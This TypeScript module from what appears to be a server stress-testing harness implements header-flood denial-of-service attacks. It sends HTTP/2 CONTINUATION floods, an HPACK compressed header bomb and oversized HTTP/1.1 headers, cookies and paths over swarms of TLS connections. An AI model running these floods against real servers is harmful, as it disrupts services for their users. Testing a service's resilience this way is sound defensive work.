import type { Attack, Stage } from '../attack.ts';
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  indexedField,
  NEWEST_FIELD,
  preface,
  requestFields,
} from '../frames.ts';
import { dialTls } from '../place.ts';
import { hold, swarm } from '../swarm.ts';

const CONTINUATIONS = 5000;

/** A header list without an end, in thousands of CONTINUATION frames. */
function* continuations(stage: Stage): Generator<Buffer> {
  yield frame(
    FRAME.headers,
    END_STREAM,
    1,
    headerBlock(requestFields('/readyz', stage.people.powerless.token)),
  );
  for (let at = 0; at < CONTINUATIONS; at++)
    yield frame(FRAME.continuation, 0, 1, headerBlock([[`x-${at}`, 'y'.repeat(1000)]]));
}

/** One big field, kept in the table, then named ten thousand times: 16 kB that stand for 40 MB. */
function* compressed(stage: Stage): Generator<Buffer> {
  const big = indexedField('x-big', 'z'.repeat(3900));
  const start = Buffer.concat([headerBlock(requestFields('/readyz', stage.people.powerless.token)), big]);
  for (let stream = 1; stream < 40; stream += 2) {
    yield frame(
      FRAME.headers,
      END_STREAM,
      stream,
      stream === 1 ? start : headerBlock(requestFields('/readyz')),
    );
    yield frame(FRAME.continuation, END_HEADERS, stream, Buffer.alloc(10_000, NEWEST_FIELD));
  }
}

/** Very many small fields in a list that ends. */
function* manyFields(stage: Stage): Generator<Buffer> {
  yield frame(
    FRAME.headers,
    END_STREAM,
    1,
    headerBlock(requestFields('/readyz', stage.people.powerless.token)),
  );
  const fields = Array.from({ length: 1000 }, (_, at): [string, string] => [`x-${at}`, '']);
  for (let at = 0; at < 10; at++) yield frame(FRAME.continuation, 0, 1, headerBlock(fields));
  yield frame(FRAME.continuation, END_HEADERS, 1);
}

const HTTP2_FORMS = [continuations, compressed, manyFields];
const HTTP1_FORMS = [
  `GET /readyz HTTP/1.1\r\nHost: localhost\r\nX-Big: ${'a'.repeat(1_000_000)}\r\n\r\n`,
  `GET /readyz HTTP/1.1\r\nHost: localhost\r\n${'X-Many: a\r\n'.repeat(50_000)}\r\n`,
  `GET /readyz HTTP/1.1\r\nHost: localhost\r\nCookie: ${'a=b; '.repeat(20_000)}\r\n\r\n`,
  `GET /${'a'.repeat(2_000_000)} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
];

export const headerFloods: Attack = {
  name: 'header-floods',
  summary: 'sends CONTINUATION floods, compressed header bombs and header lists of megabytes',
  async start(stage, signal) {
    await swarm(stage.size(21, 210), 7, signal, async (index) => {
      const form = index % (HTTP2_FORMS.length + HTTP1_FORMS.length);
      const http2 = HTTP2_FORMS[form];
      const socket = await dialTls(stage.place, http2 === undefined ? 'http/1.1' : 'h2', signal);
      if (socket === undefined) return stage.tally.answer(0);
      socket.resume();
      stage.tally.send();
      if (http2 === undefined) socket.write(HTTP1_FORMS[form - HTTP2_FORMS.length] ?? '');
      else {
        socket.write(preface());
        for (const bytes of http2(stage)) {
          if (!socket.writable || signal.aborted) break;
          if (!socket.write(bytes)) await hold(1, signal);
        }
      }
      await hold(300, signal);
      socket.destroy();
    });
    return [];
  },
};
